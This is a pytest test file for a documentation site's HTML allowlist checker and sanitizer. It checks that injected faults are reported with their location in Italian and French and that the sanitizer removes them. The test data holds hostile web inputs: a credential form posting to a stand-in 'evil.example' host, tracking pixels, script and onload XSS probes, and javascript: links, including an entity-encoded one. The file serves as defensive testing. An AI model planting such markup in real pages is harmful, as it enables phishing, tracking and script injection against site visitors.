"""The allowlist (scripts/kb/content/allowlist.py): the checker refuses on the page what the sanitizer
drops from the HTML, with the line, the column and the fix, in Italian and French.

Each case breaks the small valid tree of tests/checker_fixtures.py once and asserts the code, the
place, the exit status, the messages in it and fr, that nothing under docs/ changed and that no
rule crashed (KB999).
"""
from __future__ import annotations

from pathlib import Path

import pytest
from checker_fixtures import write_tree
from kb.check.markdown import mask_code
from kb.check.messages import load_catalog
from kb.content import allowlist
from kb.content.pages import load_pages
from test_check import IT_HOME, assert_reported_at, checked, edit, put


@pytest.fixture
def docs(tmp_path) -> Path:
    return write_tree(tmp_path)


def at_section(snippet: str):
    """Put `snippet` where the Italian home page has '## Sezione' (line 16)."""
    return lambda d: edit(d, IT_HOME, "## Sezione", snippet)


SVG_FILE = "it/assets/disegno.svg"

CASES = [
    # (id, how to break the tree, code, file, line, col)
    ("style-block", at_section("<style>body{display:none}</style>"), "KB081", IT_HOME, 16, 1),
    ("style-overlay", at_section('<div style="position:fixed;inset:0;z-index:9">Accedi</div>'), "KB083", IT_HOME, 16, 6),
    ("form-password", at_section('<form action="https://evil.example/login" method="post">'),
     "KB082", IT_HOME, 16, 1),
    ("input-password", at_section('Password: <input type="password" name="p">'), "KB082", IT_HOME, 16, 11),
    ("tracking-pixel", at_section('<img src="https://tracker.example/p.gif" alt="x">'), "KB086", IT_HOME, 16, 6),
    ("tracking-srcset", at_section('<img src="../it/index.md" srcset="https://t.example/a.png 2x" alt="x">'),
     "KB086", IT_HOME, 16, 27),
    ("markdown-image-elsewhere", at_section("![pixel](http://tracker.example/p.gif)"), "KB086", IT_HOME, 16, 10),
    ("attr-list-style", at_section('Testo.\n{: style="position:fixed;top:0" }'), "KB083", IT_HOME, 17, 4),
    ("attr-list-key", at_section('[x](experiences/orti.md){: target="_blank" }'), "KB087", IT_HOME, 16, 28),
    ("attr-list-class", at_section("Testo.\n{: .md-header }"), "KB085", IT_HOME, 17, 4),
    ("unknown-element", at_section("<marquee>Novità</marquee>"), "KB080", IT_HOME, 16, 1),
    ("class-not-allowed", at_section('<div class="md-header">x</div>'), "KB085", IT_HOME, 16, 6),
    ("attribute-not-allowed", at_section('<a href="experiences/orti.md" target="_blank">x</a>'), "KB084", IT_HOME, 16, 31),
    ("img-without-alt", at_section('<img src="experiences/orti.md">'), "KB089", IT_HOME, 16, 1),
    ("video", at_section('<video src="https://videos.example/v.mp4"></video>'), "KB063", IT_HOME, 16, 1),
    ("stylesheet", at_section('<link rel="stylesheet" href="https://cdn.example/s.css">'), "KB063", IT_HOME, 16, 1),
    ("script", at_section("<script>alert(1)</script>"), "KB063", IT_HOME, 16, 1),
    ("reserved-id-attr-list", at_section("## Sezione {#__config}"), "KB097", IT_HOME, 16, 13),
    ("reserved-id-html", at_section('<div id="__search">x</div>'), "KB097", IT_HOME, 16, 6),
    ("svg-script-in-page", at_section('<svg viewBox="0 0 1 1"><script>alert(1)</script></svg>'), "KB063", IT_HOME, 16, 24),
    # SVG files under docs/
    ("svg-file-script", lambda d: put(d, SVG_FILE, '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>'),
     "KB063", SVG_FILE, 2, 1),
    ("svg-file-handler", lambda d: put(d, SVG_FILE, '<svg onload="alert(1)"></svg>'), "KB064", SVG_FILE, 1, 6),
    ("svg-file-foreign-object", lambda d: put(d, SVG_FILE, "<svg><foreignObject><p>x</p></foreignObject></svg>"),
     "KB095", SVG_FILE, 1, 6),
    ("svg-file-remote-image", lambda d: put(d, SVG_FILE, '<svg><image href="https://t.example/a.png"/></svg>'),
     "KB096", SVG_FILE, 1, 19),
    ("svg-file-xlink", lambda d: put(d, SVG_FILE, '<svg><use xlink:href="other.svg#a"/></svg>'), "KB096", SVG_FILE, 1, 23),
    ("svg-file-css-url", lambda d: put(d, SVG_FILE, '<svg><rect style="fill:url(http://t.example/x)"/></svg>'),
     "KB096", SVG_FILE, 1, 24),
]


@pytest.mark.parametrize("name,breaker,code,rel,line,col", CASES, ids=[c[0] for c in CASES])
def test_each_fault_is_reported_where_it_is(docs, name, breaker, code, rel, line, col):
    assert_reported_at(docs, breaker, code, rel, line, col)


def test_messages_are_specific(docs):
    edit(docs, IT_HOME, "## Sezione", "<script>x()</script> <form></form> <style></style>")
    it = {f["code"]: f["message"] for f in checked(docs, "--lang", "it").findings}
    fr = {f["code"]: f["message"] for f in checked(docs, "--lang", "fr").findings}
    assert "<script>" in it["KB063"] and "<script>" in fr["KB063"]
    assert "moduli" in it["KB082"] and "formulaires" in fr["KB082"]
    assert "<style>" in it["KB081"] and "<style>" in fr["KB081"]


def test_other_host_message_says_where_to_put_the_file(docs):
    edit(docs, IT_HOME, "## Sezione", "![Orto](https://www.example.org/foto/Orto Comune.JPG)")
    message = checked(docs, "--lang", "it").find("KB086")[0]["message"]
    assert "docs/assets/images/orto-comune.jpg" in message and "«../assets/images/orto-comune.jpg»" in message


def test_links_to_other_sites_stay_fine(docs):
    edit(docs, IT_HOME, "## Sezione", '[sito](https://www.example.org/) <a href="https://www.example.org/a">a</a>\n\n## Sezione')
    assert checked(docs).errors() == []


def test_what_markdown_writes_is_allowed(docs):
    text = (
        "## Sezione {#mia-sezione}\n\n"
        "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
        "Termine\n:   definizione\n\n"
        '??? note "Dettagli"\n    testo\n\n'
        '![Orto](experiences/orti.md){ width="300" loading="lazy" }\n\n'
        '<figure class="c4-diagram"><svg class="c4" viewBox="0 0 10 10" role="group" aria-labelledby="t">'
        '<title id="t">Fasi</title><g fill="none" stroke="currentColor"><path d="M1 1"/></g>'
        '<a href="experiences/"><rect x="1" y="1" width="8" height="8" rx="2"/><text x="1" y="1">1</text></a>'
        "</svg><figcaption>Fasi</figcaption></figure>\n\n"
        "*[ATS]: Associazione temporanea di scopo\n"
    )
    edit(docs, IT_HOME, "## Sezione", text)
    result = checked(docs)
    assert not [f for f in result.findings if f["code"] >= "KB080" and f["code"] < "KB100"], result.out


def test_code_shows_html_without_being_html(docs):
    edit(docs, IT_HOME, "## Sezione", "```html\n<form><input style=x></form>\n```\n\n`<marquee>`\n\n## Sezione")
    assert checked(docs).errors() == []


def test_the_old_codes_stay():
    codes = load_catalog()["codes"]
    assert {"KB063", "KB064", "KB065"} <= set(codes)


# --- the sanitizer -----------------------------------------------------------------------------------

def test_sanitize_drops_what_the_checker_refuses():
    dirty = (
        '<style>body{display:none}</style><div style="position:fixed">x</div>'
        '<form action="https://evil.example/"><input type="password"></form>'
        '<img src="https://tracker.example/p.gif" alt="p"><img src="foto.jpg" srcset="https://t.example/a 2x" alt="f">'
        '<a href="javascript:alert(1)">j</a><script>alert(1)</script><iframe src="https://x.example/"></iframe>'
        '<svg><script>alert(1)</script><foreignObject><p>x</p></foreignObject></svg>'
        '<div class="md-header admonition note">y</div><a href="x.md" target="_blank" onclick="x()">k</a>'
    )
    clean = allowlist.sanitize(dirty)
    for gone in ("style", "form", "input", "tracker", "t.example", "javascript", "script", "iframe",
                 "foreignObject", "md-header", "target", "onclick", "password"):
        assert gone not in clean, (gone, clean)
    assert '<img src="foto.jpg" alt="f">' in clean and '<div class="admonition note">y</div>' in clean
    assert '<a href="x.md">k</a>' in clean


def test_sanitize_keeps_the_method_diagram_and_markdown_output():
    page = (Path(__file__).resolve().parents[1] / "docs" / "it" / "method" / "index.md").read_text(encoding="utf-8")
    figure = page[page.index("<figure"): page.index("</figure>") + len("</figure>")]
    clean = allowlist.sanitize(figure)
    for kept in ('viewBox="0 0 320 344"', "<title id=\"c4-title\">", 'aria-labelledby="c4-title"', '<a href="conoscere/">',
                 "<rect ", 'font-weight="bold"', '<g fill="none"', "<figcaption>"):
        assert kept in clean, kept
    assert "style" not in clean
    markdown_html = (
        '<div class="admonition abstract"><p class="admonition-title">In breve</p><p>x</p></div>'
        '<details class="note"><summary>S</summary><p>d</p></details><h2 id="t">T</h2>'
        '<table><thead><tr><th align="left">a</th></tr></thead><tbody><tr><td align="left">1</td></tr></tbody></table>'
        '<dl><dt>a</dt><dd>b</dd></dl><p><abbr title="x">A</abbr> <del>d</del><br></p>'
        '<div class="highlight"><pre><span></span><code><span class="k">def</span></code></pre></div>'
        '<ol start="3"><li>c</li></ol><p><img alt="a" src="a.png" width="300"> <a href="https://example.org/">e</a></p>'
    )
    assert allowlist.sanitize(markdown_html) == markdown_html


def test_sanitize_is_idempotent_and_never_raises():
    for text in ("", "<", "<<svg><svg>", "\x00<p>", "<p>" * 1000, "<a href='&#106;avascript:x'>a</a>"):
        once = allowlist.sanitize(text)
        assert allowlist.sanitize(once) == once


def test_the_checker_accepts_every_element_the_sanitizer_keeps():
    from kb.check.rules.safety import check_attribute, html_findings

    for tag in allowlist.TAGS:
        assert not list(html_findings(f"<{tag}>")) or tag == "img"
        for name in allowlist.ATTRIBUTES.get(tag, ()):
            assert check_attribute(tag, name, "x") is None or name in {"src", "alt"}, (tag, name)


def test_the_real_pages_need_nothing_outside_the_allowlist():
    corpus = load_pages()
    from kb.check.rules.safety import html_findings

    outside = []
    for page in corpus.pages:
        for _offset, code, args in html_findings(mask_code(page.body)):
            outside.append((page.lang, page.rel, code, args.get("tag") or args.get("attr")))
    # The C4 diagram still carries its look inline (style= and <style>): the rules are now in
    # overrides/assets/site.css; the two are to be removed from the pages (issue 16).
    known = {(lang, "method/index.md", code, what) for lang in ("it", "fr")
             for code, what in (("KB083", None), ("KB081", "style"))}
    assert set(outside) <= known, outside


def test_sanitize_keeps_the_markers_of_generated_blocks_and_drops_other_comments():
    import re

    marker = re.compile(r"<!--kb-abc-[0-9]+-->")
    html = "<p>a</p><!--kb-abc-0--><!-- nota del redattore --><p>b</p><!--kb-abc-1-->"
    assert allowlist.sanitize(html, keep_comments=marker) == "<p>a</p><!--kb-abc-0--><p>b</p><!--kb-abc-1-->"
    assert allowlist.sanitize(html) == "<p>a</p><p>b</p>"
